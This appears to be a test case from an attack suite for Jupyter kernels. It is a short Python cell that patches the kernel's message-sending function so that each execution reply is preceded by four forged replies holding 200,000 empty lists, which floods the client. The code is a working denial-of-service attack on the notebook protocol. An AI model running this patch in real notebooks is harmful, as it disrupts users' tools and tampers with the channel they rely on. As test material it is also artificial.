"""Sends replies of hundreds of thousands of lists, which take long to read and much room.

attack: protocol
limits: cell=3
within: 25
"""
kernel = get_ipython().kernel
send = kernel.session.send
def fake(stream, kind, content=None, *args, **kwargs):
    if kind == "execute_reply":
        for _ in range(4):
            send(stream, kind, {"status": "ok", "x": [[]] * 200_000}, {"header": {"msg_id": "x"}}, *args[1:], **kwargs)
    return send(stream, kind, content, *args, **kwargs)
kernel.session.send = fake
